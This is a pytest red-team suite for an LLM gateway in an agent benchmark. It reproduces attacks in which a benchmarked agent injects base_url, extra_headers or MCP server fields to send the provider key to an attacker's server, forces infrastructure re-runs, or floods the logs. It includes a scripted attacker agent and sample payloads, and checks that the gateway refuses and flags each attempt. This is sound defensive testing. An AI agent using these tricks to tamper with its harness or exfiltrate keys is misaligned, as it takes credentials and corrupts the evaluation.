"""The red team's attacks on the LLM gateway (issue 32), each over real HTTP.

* The provider key left through the gateway: a body naming ``base_url`` (or
  ``api_base``, ``custom_llm_provider``, ``extra_headers``) made litellm send
  ``Authorization: Bearer <provider key>`` to a server of the agent's choosing, and
  relay its reply. Now such a request is refused (400 in the client's protocol) before
  anything is sent, and recorded as tampering; the attacker's server hears nothing.
* An agent chose an infrastructure error (a re-run) by pointing its last request at a
  closed port: now that request is refused and the cell ends scored, flagged. A request
  the provider itself rejects as invalid after replies were served ends the cell
  ``request_rejected``, scored.
* Refused requests were logged whole (ten 20 MB requests after the budget: 201 MB of log
  in 10 s): now bodies are capped (413) and refused ones logged as a digest.

Honest bodies (the clients' recorded ones) must still pass: see
``tests/test_gateway_allowlist.py`` and ``tests/test_gateway.py``.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest

from pytest_automedbench.agents.base import INFRA_TERMINATIONS, rejected_request
from pytest_automedbench.fixtures.staging import StagedData
from pytest_automedbench.gateway import Budget, CellLease, Gateway, RetryPolicy
from pytest_automedbench.gateway._wire import WireReader, WireToolResult, read_log
from pytest_automedbench.violations import Policy, find_violations
from tests.scripted_upstream import Error, ScriptedUpstream, Shell, Step, StepUsage, Text
from tests.test_gateway_allowlist import Recorder

pytestmark = pytest.mark.redteam

CANARY = "sk-canary-redteam-81f3a9d2c6e4-REAL-KEY"
KEY_ENV = "AMB_TEST_REDTEAM_GATEWAY_KEY"
OPENAI_MODEL = "openai/gpt-scripted-1"
ANTHROPIC_MODEL = "anthropic/claude-scripted-1"
ROUTING_FIELDS = ["base_url", "api_base", "custom_llm_provider", "extra_headers"]


@pytest.fixture
def provider() -> Iterator[ScriptedUpstream]:
    with ScriptedUpstream([], default=Text("ok")) as server:
        yield server


@pytest.fixture
def attacker() -> Iterator[Recorder]:
    with Recorder() as server:
        yield server


@pytest.fixture
def gateway(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Gateway]:
    monkeypatch.setenv(KEY_ENV, CANARY)
    retry = RetryPolicy(max_attempts=2, base_delay_s=0.01, max_delay_s=0.02, timeout_s=10)
    with Gateway(tmp_path / "gateway", retry=retry) as gw:
        yield gw


def open_lease(
    gateway: Gateway,
    provider: ScriptedUpstream,
    model: str,
    *,
    configured_base: bool = True,
    budget: Budget | None = None,
) -> CellLease:
    base = provider.url if model.startswith("anthropic/") else provider.openai_url
    return gateway.open_cell(
        "redteam-cell",
        model,
        api_base=base if configured_base else None,
        api_key_env=KEY_ENV,
        budget=budget,
        chat_only=not model.startswith("anthropic/"),
    )


def attack_value(field: str, attacker: Recorder) -> Any:
    """What the red team sent in each field."""
    if field == "custom_llm_provider":
        return "openai"
    if field == "extra_headers":
        return {"Authorization": "Bearer stolen", "X-Forward-To": attacker.origin}
    return f"{attacker.origin}/v1"


def post(lease: CellLease, route: str, body: dict[str, Any]) -> httpx.Response:
    headers = {"Authorization": f"Bearer {lease.token}", "anthropic-version": "2023-06-01"}
    return httpx.post(f"{lease.url}{route}", json=body, headers=headers, timeout=30)


ROUTES: dict[str, tuple[str, dict[str, Any]]] = {
    "chat": ("/v1/chat/completions", {"messages": [{"role": "user", "content": "hi"}]}),
    "responses": ("/v1/responses", {"input": "hi"}),
    "messages": (
        "/v1/messages",
        {"max_tokens": 64, "messages": [{"role": "user", "content": "hi"}]},
    ),
}


def log_lines(lease: CellLease) -> list[dict[str, Any]]:
    return read_log(lease.log_path)


@pytest.mark.parametrize("configured_base", [True, False], ids=["api_base", "no_api_base"])
@pytest.mark.parametrize("model", [OPENAI_MODEL, ANTHROPIC_MODEL])
@pytest.mark.parametrize("route", list(ROUTES))
@pytest.mark.parametrize("field", ROUTING_FIELDS)
def test_a_routing_field_is_refused_before_anything_is_sent_and_flagged(
    gateway: Gateway,
    provider: ScriptedUpstream,
    attacker: Recorder,
    field: str,
    route: str,
    model: str,
    configured_base: bool,
) -> None:
    # With the same field set, the provider key would once have gone to the attacker.
    if field in ("custom_llm_provider", "extra_headers"):
        extra = {"base_url": f"{attacker.origin}/v1", field: attack_value(field, attacker)}
    else:
        extra = {field: attack_value(field, attacker)}
    lease = open_lease(gateway, provider, model, configured_base=configured_base)
    path, body = ROUTES[route]
    response = post(lease, path, {"model": "gpt-4o", **body, **extra})
    assert response.status_code == 400
    error = response.json()
    if route == "messages":
        assert error["type"] == "error" and error["error"]["type"] == "invalid_request_error"
        message = error["error"]["message"]
    else:
        assert error["error"]["type"] == "invalid_request_error"
        message = error["error"]["message"]
    assert field in message and "gateway_tampering" in message
    # Nothing left the gateway: not to the attacker, not even to the real provider.
    assert attacker.seen == [] and provider.requests == []
    [line] = log_lines(lease)
    assert line["tampering"] is True and field in line["refused_fields"]
    assert line["status"] == 400 and line["input_tokens"] == 0
    assert line["request_digest"]["fields"] == ["model", *body, *extra]
    # Names only: neither the attacker's address nor the key is in the log.
    text = lease.log_path.read_text()
    assert attacker.origin not in text and CANARY not in text


def test_the_openai_sdk_route_through_extra_body_is_refused_too(
    gateway: Gateway, provider: ScriptedUpstream, attacker: Recorder
) -> None:
    """What an agent using the OpenAI SDK writes: ``extra_body`` puts the field in the
    JSON body (the SDK's own ``base_url`` is the gateway)."""
    lease = open_lease(gateway, provider, OPENAI_MODEL)
    client = openai.OpenAI(base_url=lease.openai_base_url, api_key=lease.token, max_retries=0)
    with pytest.raises(openai.BadRequestError) as refused:
        client.chat.completions.create(
            model="gpt-4o",
            messages=[{"role": "user", "content": "hi"}],
            extra_body={"base_url": f"{attacker.origin}/v1", "api_key": "sk-mine"},
        )
    assert "gateway_tampering" in str(refused.value)
    assert attacker.seen == [] and provider.requests == []
    # The same client without the fields is served by the real provider, with the key.
    reply = client.chat.completions.create(
        model="gpt-4o", messages=[{"role": "user", "content": "hi"}]
    )
    assert reply.choices[0].message.content == "ok"
    [served] = provider.requests
    assert served.headers["authorization"] == f"Bearer {CANARY}"


def test_a_tool_entry_cannot_carry_a_server_or_headers(
    gateway: Gateway, provider: ScriptedUpstream, attacker: Recorder
) -> None:
    lease = open_lease(gateway, provider, OPENAI_MODEL)
    mcp = {
        "type": "mcp",
        "server_label": "x",
        "server_url": f"{attacker.origin}/mcp",
        "headers": {"Authorization": "Bearer x"},
    }
    response = post(lease, "/v1/responses", {"model": "m", "input": "hi", "tools": [mcp]})
    assert response.status_code == 400
    [line] = log_lines(lease)
    assert set(line["refused_fields"]) == {"tools[0].server_url", "tools[0].headers"}
    assert attacker.seen == [] and provider.requests == []


def test_the_tampering_event_is_an_isolation_violation() -> None:
    """The agent system's route turns a refused line into a ``gateway_tampering`` event;
    the violation monitor reads it as harness tampering (the cell is zeroed)."""
    event = {
        "kind": "gateway_tampering",
        "seq": 7,
        "status": 400,
        "protocol": "chat",
        "fields": ["base_url"],
    }
    [violation] = find_violations([event], Policy())
    assert violation.category == "harness_tampering" and violation.seq == 7
    assert "base_url" in violation.evidence and violation.tool == "gateway"
    # A request the gateway merely failed (or a budget refusal) is no evidence.
    failed = {"kind": "request_failed", "seq": 8, "status": 403, "error": "budget"}
    assert find_violations([failed], Policy()) == []


# -- sizes ---------------------------------------------------------------------------------


def test_an_oversize_body_is_413_without_being_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, provider: ScriptedUpstream
) -> None:
    monkeypatch.setenv(KEY_ENV, CANARY)
    with Gateway(tmp_path / "gw", max_body_bytes=1024**2) as gateway:
        lease = open_lease(gateway, provider, ANTHROPIC_MODEL)
        big = {
            "model": "m",
            "max_tokens": 8,
            "messages": [{"role": "user", "content": "x" * 2**21}],
        }
        declared = post(lease, "/v1/messages", big)
        assert declared.status_code == 413
        assert declared.json()["error"]["type"] == "request_too_large"
        assert "request_too_large" in declared.json()["error"]["message"]

        def chunks() -> Iterator[bytes]:  # no Content-Length: read until the cap passes
            yield b'{"model": "m", "messages": [{"role": "user", "content": "'
            for _ in range(64):
                yield b"y" * 65536
            yield b'"}]}'

        streamed = httpx.post(
            f"{lease.openai_base_url}/chat/completions",
            content=chunks(),
            headers={"Authorization": f"Bearer {lease.token}"},
            timeout=30,
        )
        assert streamed.status_code == 413
        assert streamed.json()["error"]["type"] == "request_too_large"
    first, second = log_lines(lease)
    assert first["status"] == second["status"] == 413
    assert first["request_digest"]["declared_bytes"] > 2**21
    assert first["request_digest"]["bytes_read"] == 0
    # Read until the cap passed (by less than one network read), not the 4 MiB sent.
    assert 1024**2 < second["request_digest"]["bytes_read"] <= 1024**2 + 256 * 1024
    assert provider.requests == []
    assert lease.log_path.stat().st_size < 4096


def test_ten_big_requests_after_the_budget_leave_a_small_log(
    gateway: Gateway, provider: ScriptedUpstream
) -> None:
    """The red team's 201 MB: now ten digests."""
    lease = open_lease(gateway, provider, OPENAI_MODEL, budget=Budget(max_requests=1))
    assert post(lease, *_chat("go")).status_code == 200
    served = lease.log_path.stat().st_size
    payload = "z" * (20 * 1024**2)
    for _ in range(10):
        refused = post(lease, *_chat(payload))
        assert refused.status_code == 403 and "turn_limit" in refused.text
    lines = log_lines(lease)
    assert [line["status"] for line in lines] == [200] + [403] * 10
    assert all(line["request_digest"]["bytes"] > 20 * 1024**2 for line in lines[1:])
    # The first refusal's conversation tail was owed (it would carry the served reply's
    # tool results) but is too big; the later ones owe none.
    assert lines[1]["request"].get("tail_left_out") is True
    assert all("messages" not in line["request"] for line in lines[1:])
    growth = lease.log_path.stat().st_size - served
    assert growth < 10 * 2048, growth
    assert len(provider.requests) == 1


def test_a_flood_of_refusals_stops_growing_the_log(
    gateway: Gateway, provider: ScriptedUpstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Refusals in a row are logged up to a bound, then only counted; names an agent
    chooses (their number and length) are cut too."""
    from pytest_automedbench.gateway import _lease

    monkeypatch.setattr(_lease, "UNSERVED_LINES_LOGGED", 5)
    lease = open_lease(gateway, provider, OPENAI_MODEL)
    path, body = ROUTES["chat"]
    names = {f"litellm_{n}_{'x' * 1000}": 1 for n in range(5000)}
    for _ in range(8):
        assert post(lease, path, {"model": "m", **body, **names}).status_code == 400
    lines = log_lines(lease)
    assert len(lines) == 5 and lease.unlogged == 3 and lease.requests == 8
    assert all(len(line["refused_fields"]) <= 64 for line in lines)
    assert all(len(name) <= 64 for line in lines for name in line["refused_fields"])
    assert lease.log_path.stat().st_size < 5 * 16 * 1024
    # A served reply starts the count again.
    assert post(lease, path, {"model": "m", **body}).status_code == 200
    assert post(lease, path, {"model": "m", **body, "base_url": "x"}).status_code == 400
    assert [line["status"] for line in log_lines(lease)][-2:] == [200, 400]


def _chat(content: str) -> tuple[str, dict[str, Any]]:
    return "/v1/chat/completions", {
        "model": "m",
        "messages": [{"role": "user", "content": content}],
    }


def test_a_refused_request_still_reports_the_tool_results_it_carries(gateway: Gateway) -> None:
    """An honest system stopped by its budget: the request that was refused carried the
    result of the call it had just run, and the trajectory still shows that call."""
    with ScriptedUpstream([Shell("ls /data")]) as upstream:
        lease = gateway.open_cell(
            "budgeted",
            OPENAI_MODEL,
            api_base=upstream.openai_url,
            api_key_env=KEY_ENV,
            budget=Budget(max_requests=1),
            chat_only=True,
        )
        tools = [
            {
                "type": "function",
                "function": {
                    "name": "bash",
                    "parameters": {
                        "type": "object",
                        "properties": {"command": {"type": "string"}},
                    },
                },
            }
        ]
        first = {"model": "m", "messages": [{"role": "user", "content": "go"}], "tools": tools}
        reply = post(lease, "/v1/chat/completions", first).json()
        message = reply["choices"][0]["message"]
        [call] = message["tool_calls"]
        result = {"role": "tool", "tool_call_id": call["id"], "content": "a.nii.gz\n"}
        second = {**first, "messages": [*first["messages"], message, result]}
        assert post(lease, "/v1/chat/completions", second).status_code == 403
    reader = WireReader()
    items = [item for line in log_lines(lease) for item in reader.feed(line)]
    [answered] = [item for item in items if isinstance(item, WireToolResult)]
    assert answered.call_id == call["id"] and answered.content == "a.nii.gz\n"
    assert reader.unanswered() == []


# -- how the cell ends ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "served", "rejected"),
    [
        (400, 3, True),
        (404, 1, True),
        (413, 2, True),
        (422, 5, True),
        (400, 0, False),  # before the first reply: the configuration's fault
        (401, 3, False),
        (403, 3, False),
        (408, 3, False),
        (429, 3, False),
        (500, 3, False),
        (503, 3, False),
        (None, 3, False),  # a connection error
    ],
)
def test_the_rule_for_a_rejected_request(status: int | None, served: int, rejected: bool) -> None:
    assert rejected_request(status, served) is rejected
    assert "request_rejected" not in INFRA_TERMINATIONS


def test_a_malformed_field_is_the_requests_fault_not_an_outage(
    gateway: Gateway, provider: ScriptedUpstream
) -> None:
    """A string where litellm reads a mapping made it crash before sending: that was a
    502 (an outage, a re-run); it is the request's 400."""
    lease = open_lease(gateway, provider, OPENAI_MODEL)
    path, body = ROUTES["chat"]
    response = post(lease, path, {"model": "m", **body, "metadata": "not a mapping"})
    assert response.status_code == 400, response.text
    [line] = log_lines(lease)
    assert line["status"] == 400 and line["error"].startswith("AutoMedBench gateway:")
    assert [a["status"] for a in line["attempts"]] == [400]  # not retried


# -- whole cells: an agent system in bubblewrap with no network --------------------------------

#: A chat-completions agent system that, after ``SERVED`` replies, sends its next request
#: with ``EXTRA`` merged into the body (the attack), and stops on any HTTP error.
ATTACKER_SYSTEM = r"""python3 - <<'EOF'
import json, os, subprocess, urllib.error, urllib.request
url = os.environ["OPENAI_BASE_URL"] + "/chat/completions"
extra, after = json.loads(os.environ["AMB_ATTACK"]), int(os.environ["AMB_ATTACK_AFTER"])
tool = {"type": "function", "function": {"name": "bash", "parameters": {
    "type": "object", "properties": {"command": {"type": "string"}}}}}
messages = [{"role": "user", "content": open(os.environ["AMB_BRIEF"]).read()}]
for step in range(10):
    body = {"model": os.environ["AMB_MODEL"], "messages": messages, "tools": [tool]}
    if step >= after:
        body.update(extra)
    request = urllib.request.Request(url, json.dumps(body).encode(),
        {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
         "Content-Type": "application/json"})
    try:
        reply = json.load(urllib.request.urlopen(request, timeout=60))["choices"][0]["message"]
    except urllib.error.HTTPError as error:
        print("stopped:", error.code, error.read().decode()[:300])
        break
    messages.append(reply)
    if not reply.get("tool_calls"):
        break
    for call in reply["tool_calls"]:
        command = json.loads(call["function"]["arguments"])["command"]
        done = subprocess.run(["bash", "-c", command], capture_output=True, text=True)
        result = {"returncode": done.returncode, "output": done.stdout + done.stderr}
        messages.append({"role": "tool", "tool_call_id": call["id"], "content": json.dumps(result)})
EOF"""


def attacker_cell(
    staged: StagedData, tmp_path: Path, upstream: ScriptedUpstream, extra: dict[str, Any]
) -> Any:
    from pytest_automedbench.config import RunConfig
    from pytest_automedbench.results import CellKey
    from pytest_automedbench.runner import CellPlan, run_cell
    from tests.conftest import CANARY_ENV
    from tests.test_agent_system_cells import TASK, SystemCell, require

    require("bubblewrap")
    command = f"export AMB_ATTACK={json.dumps(json.dumps(extra))} AMB_ATTACK_AFTER=3\n"
    definitions = {
        "scripted-model": {
            "model": OPENAI_MODEL,
            "api_base": upstream.openai_url,
            "api_key_env": CANARY_ENV,
            "input_usd_per_mtok": 3.0,
            "output_usd_per_mtok": 15.0,
        },
        "attacker": {"command": command + ATTACKER_SYSTEM, "model": "scripted-model"},
    }
    plan = CellPlan(
        key=CellKey(agent="attacker", task=TASK.id, tier="lite", run=0),
        task=TASK,
        staged=staged,
        config=RunConfig(
            amb_out=tmp_path / "out",
            sandbox="bubblewrap",
            sandbox_network="off",
            agent_definitions=definitions,
        ),
        run_id="test-gateway-redteam",
        cell_dir=tmp_path / "cell",
    )
    from pytest_automedbench.agents.trajectory import read_trajectory

    result = run_cell(plan)
    return SystemCell(
        result, read_trajectory(plan.cell_dir / "trajectory.jsonl"), upstream, plan.cell_dir
    )


def three_steps() -> list[Step]:
    usage = StepUsage(100, 10)
    return [Shell("echo one", usage), Shell("echo two", usage), Shell("echo three", usage)]


@pytest.mark.slow
def test_a_system_that_points_its_last_request_at_a_closed_port_is_scored_and_flagged(
    staged: StagedData, tmp_path: Path, canary: str, attacker: Recorder
) -> None:
    """The red team's re-run trick, and its key theft, from a sandbox with no network:
    after three served replies the request names ``base_url`` (a closed port; then the
    attacker's server). Refused at the gateway: the cell is scored (not an
    infrastructure error) and zeroed for tampering, and nothing reached either port."""
    with ScriptedUpstream(three_steps()) as upstream:
        closed = attacker_cell(
            staged, tmp_path / "closed", upstream, {"base_url": "http://127.0.0.1:9/v1"}
        )
    with ScriptedUpstream(three_steps()) as upstream:
        stolen = attacker_cell(
            staged, tmp_path / "stolen", upstream, {"base_url": f"{attacker.origin}/v1"}
        )
    assert attacker.seen == []
    for cell in (closed, stolen):
        result = cell.result
        assert result.status == "scored", (result.error, cell.kinds())
        assert result.termination not in INFRA_TERMINATIONS
        assert result.turns == 3 and len(cell.upstream.requests) == 3
        [tampering] = [e for e in cell.events if e["kind"] == "gateway_tampering"]
        assert tampering["fields"] == ["base_url"]
        assert [v["category"] for v in result.violations] == ["harness_tampering"]
        assert result.overall == 0.0
        log = next((cell.cell_dir / "gateway").glob("*.jsonl")).read_text()
        assert canary not in log and "127.0.0.1:9" not in log


@pytest.mark.slow
def test_a_request_the_provider_rejects_after_replies_ends_the_cell_scored(
    staged: StagedData, tmp_path: Path, canary: str
) -> None:
    """The provider answers the fourth request 400 (invalid): the system stops, and the
    cell ends ``request_rejected``: scored, with its three turns, not re-run."""
    script: list[Step] = [*three_steps(), Error(400, message="invalid tool schema")]
    with ScriptedUpstream(script) as upstream:
        cell = attacker_cell(staged, tmp_path, upstream, {})
    result = cell.result
    assert result.status == "scored", (result.error, cell.kinds())
    assert result.termination == "request_rejected" and result.turns == 3
    [rejected] = [e for e in cell.events if e["kind"] == "request_rejected"]
    assert rejected["status"] == 400 and "invalid tool schema" in rejected["error"]
    assert result.violations == []


@pytest.mark.parametrize("model", [OPENAI_MODEL, ANTHROPIC_MODEL])
def test_an_image_url_in_the_conversation_is_not_fetched_from_the_host(
    gateway: Gateway, provider: ScriptedUpstream, attacker: Recorder, model: str
) -> None:
    """litellm downloads an image URL itself where a provider takes only inline images;
    from the gateway's host that would be a GET into the host's network for a sandbox
    that has none. In each protocol, an image at the attacker's address is never
    fetched (the request is served or refused; either way the attacker hears nothing)."""
    lease = open_lease(gateway, provider, model)
    url = f"{attacker.origin}/secret.png"
    text = {"type": "text", "text": "describe"}
    image = {"type": "image_url", "image_url": {"url": url}}
    bodies = {
        "/v1/chat/completions": {
            "model": "m",
            "messages": [{"role": "user", "content": [text, image]}],
        },
        "/v1/messages": {
            "model": "m",
            "max_tokens": 8,
            "messages": [
                {
                    "role": "user",
                    "content": [text, {"type": "image", "source": {"type": "url", "url": url}}],
                }
            ],
        },
        "/v1/responses": {
            "model": "m",
            "input": [
                {
                    "role": "user",
                    "content": [
                        {"type": "input_text", "text": "describe"},
                        {"type": "input_image", "image_url": url},
                    ],
                }
            ],
        },
    }
    for route, body in bodies.items():
        assert post(lease, route, body).status_code in (200, 400)
    assert attacker.seen == []
